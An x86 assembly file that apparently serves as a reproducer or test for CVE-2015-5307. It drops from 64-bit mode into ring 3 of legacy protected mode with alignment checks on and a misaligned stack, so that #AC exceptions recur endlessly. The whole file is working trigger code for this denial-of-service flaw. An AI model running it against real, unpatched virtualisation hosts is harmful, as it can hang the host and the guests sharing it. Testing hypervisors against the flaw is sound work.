; SPDX-License-Identifier: MIT
; legacy.asm - from 64-bit mode to ring 3 of legacy protected mode, with alignment checks on and a
; misaligned stack on which #AC is delivered, still in ring 3: delivering #AC causes the next #AC
; (CVE-2015-5307). Where a processor makes no alignment checks it is an endless loop of ring 3.
; APM vol. 2, 14.7 (leaving long mode), 8.2.18 (#AC), figure 4-14 (descriptors).

CR0_PE       equ 1 << 0
CR0_AM       equ 1 << 18
CR0_PG       equ 1 << 31
MSR_EFER     equ 0xc0000080
EFER_LME     equ 1 << 8
EFLAGS_AC    equ 1 << 18
EFLAGS_ONE   equ 1 << 1                 ; always 1
VECTOR_AC    equ 17
GATE_32      equ 0xee00                 ; present, DPL 3, 32-bit interrupt gate
SEL_CODE0    equ 0x08
SEL_DATA0    equ 0x10
SEL_CODE3    equ 0x18 | 3
SEL_DATA3    equ 0x20 | 3

section .text
bits 64
global crash_alignment_loop:function
crash_alignment_loop:
    cli
    lgdt [rel gdtr]
    lidt [rel idtr]
    lea rax, [rel alignment_handler]
    lea rbx, [rel idt_ac]
    mov [rbx], ax                       ; the gate's offset 15:0
    shr eax, 16
    mov [rbx + 6], ax                   ; and 31:16
    lea rax, [rel compatibility]
    push SEL_CODE0
    push rax
    retfq

bits 32
compatibility:
    mov eax, SEL_DATA0
    mov ds, eax
    mov es, eax
    mov ss, eax
    mov esp, stack_top
    mov eax, cr0
    and eax, ~CR0_PG
    mov cr0, eax
    mov ecx, MSR_EFER
    rdmsr
    and eax, ~EFER_LME
    wrmsr
    mov eax, cr0
    or eax, CR0_AM
    mov cr0, eax
    mov eax, SEL_DATA3
    mov ds, eax
    mov es, eax
    push SEL_DATA3
    push stack_top - 1                  ; misaligned
    push EFLAGS_AC | EFLAGS_ONE
    push SEL_CODE3
    push ring3
    iretd

ring3:
    mov eax, [stack_top - 7]            ; misaligned
    pause
    jmp ring3

alignment_handler:
    add esp, 4                          ; the error code
    iretd

section .data
align 8
gdt:
    dq 0
    dq 0x00cf9b000000ffff               ; SEL_CODE0
    dq 0x00cf93000000ffff               ; SEL_DATA0
    dq 0x00cffb000000ffff               ; SEL_CODE3
    dq 0x00cff3000000ffff               ; SEL_DATA3
gdt_end:
align 8
idt:
    times VECTOR_AC dq 0
idt_ac:
    dw 0, SEL_CODE3, GATE_32, 0
idt_end:
gdtr:
    dw gdt_end - gdt - 1
    dq gdt
idtr:
    dw idt_end - idt - 1
    dq idt

section .bss
align 16
    resb 1024
stack_top:
    resb 16
